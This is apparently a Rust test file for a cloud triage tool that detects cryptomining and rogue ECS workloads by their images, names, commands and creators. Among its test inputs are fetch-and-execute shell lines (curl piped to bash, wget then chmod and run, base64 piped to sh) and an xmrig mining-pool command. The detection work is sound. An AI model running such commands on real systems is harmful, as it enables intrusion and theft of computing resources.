//! Signals one by one: what shows each, and what does not.

use quench_core::resource::ContainerOverride;
use quench_core::trail::Deed;
use quench_core::triage::{KnownGood, Signal, Verdict};

use crate::scene::{Scene, ago, arn, region};

const OWN: &str = "123456789012.dkr.ecr.eu-west-1.amazonaws.com/api:1";

fn of_image(image: &str, cpu: u32) -> Vec<Signal> {
    let mut scene = Scene::new();
    scene.definition("a:1", image, cpu, 5);
    scene.signals("task-definition/a:1")
}

#[test]
fn an_image_tells_who_could_have_pushed_it() {
    let has = |image: &str, signal: Signal| of_image(image, 256).contains(&signal);
    assert!(has("quiet/worker", Signal::PublicImage) && !has("quiet/worker", Signal::KnownPublisher));
    assert!(has("grafana/grafana:11", Signal::KnownPublisher));
    assert!(has(OWN, Signal::OwnImage) && !has(OWN, Signal::PublicImage));
    let foreign = "999999999999.dkr.ecr.eu-west-1.amazonaws.com/api:1";
    assert!(has(foreign, Signal::ForeignImage) && !has(foreign, Signal::OwnImage));
    let look_alike = "123456789012.dkr.ecr.eu-west-1.amazonaws.com.evil.example/api:1";
    assert!(!has(look_alike, Signal::OwnImage), "a host that only begins like the account's own");
    assert!(has("docker.io/secret/user:1", Signal::ListedImage));
    assert!(has("qzvkwe/tr:ox", Signal::ScriptedImage));
    // A tag can be given to anything.
    assert!(!has("quiet/worker:grafana", Signal::KnownPublisher));
}

#[test]
fn big_tasks_count_where_anybody_could_have_pushed_the_image() {
    assert!(of_image("quiet/worker", 8192).contains(&Signal::BigPublic));
    assert!(!of_image("quiet/worker", 4096).contains(&Signal::BigPublic));
    assert!(!of_image(OWN, 16_384).contains(&Signal::BigPublic));
    assert!(of_image(OWN, 16_384).contains(&Signal::BigTask));
}

#[test]
fn miners_are_found_in_words_and_not_in_parts_of_words() {
    let words = |command: &str, variable: &str| {
        let mut scene = Scene::new();
        let facts = scene.definition("a:1", OWN, 256, 5);
        facts.commands = vec![command.into()];
        facts.variables = vec![variable.into()];
        scene.signals("task-definition/a:1").contains(&Signal::MinerWords)
    };
    assert!(words("/opt/xmrig --coin", "A"));
    assert!(words("./app -o stratum+tcp://pool.example:3333", "A"));
    assert!(!words("./app", "POOL") && !words("./app", "WALLET_API_URL"), "others use these words too");
    assert!(words("./app", &format!("4{}", "A".repeat(94))), "a wallet by its form");
    assert!(!words("./spooler --carpool", "SPOOL_DIR"));
    assert!(!words("node server.js", "DATABASE_URL"));
}

#[test]
fn a_command_that_hides_what_it_runs_is_seen() {
    for (command, hides) in [
        ("sh -c echo aGk= | base64 -d | sh", true),
        ("bash -c curl -s https://x.example/i | bash", true),
        ("sh -c wget http://x/a -O /tmp/a && chmod +x /tmp/a && /tmp/a", true),
        ("sh -c curl -f http://localhost/health", false),
        ("sh -c cat list | sort | uniq", false),
        ("npm start", false),
    ] {
        let mut scene = Scene::new();
        scene.definition("a:1", OWN, 256, 5).commands = vec![command.into()];
        assert_eq!(scene.signals("task-definition/a:1").contains(&Signal::HiddenCommand), hides, "{command}");
    }
}

#[test]
fn what_a_task_was_started_with_in_place_of_its_definition_counts() {
    let mut scene = Scene::new();
    scene.definition("a:1", OWN, 256, 900);
    let cluster = scene.cluster("web");
    let mut task = quench_core::resource::Task {
        arn: arn("task/web/1"),
        last_status: "RUNNING".into(),
        task_definition: Some(arn("task-definition/a:1")),
        created_at: Some(ago(2)),
        ..quench_core::resource::Task::default()
    };
    task.overrides.containers =
        vec![ContainerOverride { name: "a".into(), command: vec!["xmrig".into()], environment_names: Vec::new() }];
    cluster.tasks.push(task);
    assert!(scene.signals("task/web/1").contains(&Signal::MinerWords));
}

#[test]
fn the_same_in_five_clusters_is_one_script() {
    let mut scene = Scene::new();
    scene.definition("m:1", "quiet/worker", 1024, 5);
    for number in 0..4 {
        scene.cluster(&format!("c{number}"));
        scene.service(&format!("c{number}"), "s", "m:1", 5);
    }
    assert!(!scene.signals("service/c0/s").contains(&Signal::SameEverywhere));
    scene.cluster("c4");
    scene.service("c4", "s", "m:1", 5);
    let signals = scene.signals("service/c0/s");
    assert!(signals.contains(&Signal::SameEverywhere) && signals.contains(&Signal::Burst), "{signals:?}");
}

#[test]
fn only_aws_can_set_a_tag_of_infrastructure() {
    let tagged = |key: &str| {
        let mut scene = Scene::new();
        scene.cluster("web").tags = vec![(key.into(), "prod".into())];
        scene.signals("cluster/web")
    };
    assert!(tagged("aws:cloudformation:stack-name").contains(&Signal::InfrastructureTags));
    for copied in ["managed-by", "terraform", "copilot-application", "AWS:cloudformation:stack-name"] {
        assert!(!tagged(copied).contains(&Signal::InfrastructureTags), "{copied}");
    }
}

#[test]
fn what_a_person_called_good_counts_only_while_it_is_the_same() {
    let mut scene = Scene::new();
    scene.definition("api:1", OWN, 256, 900);
    scene.cluster("web");
    scene.service("web", "api", "api:1", 900);
    scene.good = KnownGood::of(scene.inventory.regions.values());
    assert!(scene.signals("service/web/api").contains(&Signal::KnownGood));
    assert!(scene.signals("cluster/web").contains(&Signal::KnownGood));
    scene.definition("api:2", OWN, 256, 1);
    let service = &mut scene.inventory.regions.get_mut(&region()).unwrap().clusters[0].services[0];
    service.task_definition = Some(arn("task-definition/api:2"));
    assert!(!scene.signals("service/web/api").contains(&Signal::KnownGood), "it runs something else");
    let service = &mut scene.inventory.regions.get_mut(&region()).unwrap().clusters[0].services[0];
    service.task_definition = Some(arn("task-definition/api:1"));
    service.created_at = Some(ago(1));
    assert!(!scene.signals("service/web/api").contains(&Signal::KnownGood), "it was made anew under the same name");
}

#[test]
fn names_without_words_are_seen_in_clusters_services_and_families() {
    let mut scene = Scene::new();
    scene.cluster("qzvkwejxm");
    scene.definition("qzvkwejxm:1", "quiet/worker", 1024, 5);
    scene.service("qzvkwejxm", "qzvkwejxm", "qzvkwejxm:1", 5);
    scene.service("qzvkwejxm", "hbdkqwzpt-service", "qzvkwejxm:1", 5);
    assert!(scene.signals("cluster/qzvkwejxm").contains(&Signal::RandomName));
    assert!(scene.signals("service/qzvkwejxm/qzvkwejxm").contains(&Signal::SameNames));
    assert!(scene.signals("service/qzvkwejxm/hbdkqwzpt-service").contains(&Signal::RandomServiceName));
    scene.service("qzvkwejxm", "s-qzvkwejxm", "qzvkwejxm:1", 5);
    assert!(scene.signals("service/qzvkwejxm/s-qzvkwejxm").contains(&Signal::SameNames), "it was named after it");
    scene.cluster("billing");
    scene.service("billing", "billing", "qzvkwejxm:1", 5);
    assert!(!scene.signals("service/billing/billing").contains(&Signal::SameNames), "anybody thinks of that");
    assert!(scene.signals("task-definition/qzvkwejxm:1").contains(&Signal::RandomName));
}

#[test]
fn an_image_of_ones_own_beside_a_strange_one_whitewashes_nothing() {
    let beside = |other: &str| {
        let mut scene = Scene::new();
        scene.definition("a:1", OWN, 16_384, 5).images.push(other.into());
        scene.signals("task-definition/a:1")
    };
    let hidden = beside("quiet/worker");
    assert!(hidden.contains(&Signal::BigPublic) && !hidden.contains(&Signal::OwnImage), "{hidden:?}");
    let helper = beside("grafana/agent:1");
    assert!(helper.contains(&Signal::OwnImage) && !helper.contains(&Signal::BigPublic), "{helper:?}");
}

#[test]
fn clusters_that_somebody_else_made_in_the_same_minutes_are_no_burst() {
    let mut scene = Scene::new();
    for (number, maker) in ["eve", "eve", "eve", "eve", "eve", "ana"].into_iter().enumerate() {
        scene.cluster(&format!("c{number}"));
        scene.event("CreateCluster", &format!("cluster/c{number}"), maker, 300);
    }
    assert!(scene.signals("cluster/c0").contains(&Signal::Burst));
    assert!(!scene.signals("cluster/c5").contains(&Signal::Burst), "ana made one");
    // Of whom nobody is known to be the maker, it may be the same.
    scene.events.pop();
    scene.definition("c:1", OWN, 256, 5);
    scene.service("c5", "api", "c:1", 5);
    assert!(scene.signals("cluster/c5").contains(&Signal::Burst));
}

/// Three services of one maker that run the same, two of them with a strong reason, all with the same score but for that.
#[test]
fn what_its_maker_runs_in_rogue_things_is_a_strong_reason_for_the_third() {
    let judged = |third: &str, image: &str, unread: bool| {
        let mut scene = Scene::new();
        scene.weigh(Signal::PublicImage, 60);
        scene.weigh(Signal::RandomServiceName, 9).strong = true;
        scene.weigh(Signal::SameAsRogue, 1).strong = true;
        scene.cluster("web");
        for (number, (name, maker, image)) in
            [("hbdkqwzpt-service", "eve", "quiet/a"), ("zqkvwtxb-service", "eve", "quiet/a"), ("worker", third, image)]
                .into_iter()
                .enumerate()
        {
            scene.definition(&format!("f{number}:1"), image, 1024, 5);
            scene.service("web", name, &format!("f{number}:1"), 5);
            scene.event("CreateService", &format!("service/web/{name}"), maker, 300);
        }
        if unread {
            scene.refuse("f1:1");
        }
        let finding = scene.finding("service/web/worker");
        (finding.verdict, finding.reasons.iter().any(|reason| reason.signal == Signal::SameAsRogue))
    };
    assert_eq!(judged("eve", "quiet/a", false), (Verdict::Rogue, true));
    assert_eq!(judged("ana", "quiet/a", false), (Verdict::Suspect, false), "somebody else's");
    assert_eq!(judged("eve", "quiet/b", false), (Verdict::Suspect, false), "something else");
    assert_eq!(judged("eve", "quiet/a", true), (Verdict::Suspect, false), "one is not a kind");
}

/// A user of IAM made a service, and another user; `seen` days ago it was first seen, if ever before.
fn of_a_maker(seen: Option<i64>, told: bool) -> Vec<Signal> {
    let mut scene = Scene::new();
    scene.cluster("web");
    scene.definition("api:1", "quiet/worker", 1024, 5);
    scene.service("web", "api", "api:1", 5);
    scene.event("CreateService", "service/web/api", "eve", 300);
    scene.event("CreateUser", "user/x", "eve", 290);
    let made = scene.events.last_mut().unwrap();
    made.source = "iam.amazonaws.com".into();
    made.deed = Deed { names: vec!["backup".into()], ..Deed::default() };
    if let Some(days) = seen {
        scene.event("UpdateService", "service/web/other", "eve", days * 24 * 60);
    }
    if !told {
        scene.histories.clear();
    }
    scene.signals("service/web/api").into_iter().filter(|signal| is_of_deeds(*signal)).collect()
}

fn is_of_deeds(signal: Signal) -> bool {
    matches!(signal, Signal::MakerDidMore | Signal::StrangerDidMore)
}

#[test]
fn who_was_here_for_weeks_and_makes_users_is_an_administrator_and_not_a_stranger() {
    assert_eq!(of_a_maker(None, true), [Signal::StrangerDidMore]);
    assert_eq!(of_a_maker(Some(10), true), [Signal::StrangerDidMore]);
    assert_eq!(of_a_maker(Some(20), true), [Signal::MakerDidMore]);
    // What was not read may tell that it is no stranger.
    assert_eq!(of_a_maker(None, false), [Signal::MakerDidMore]);
}
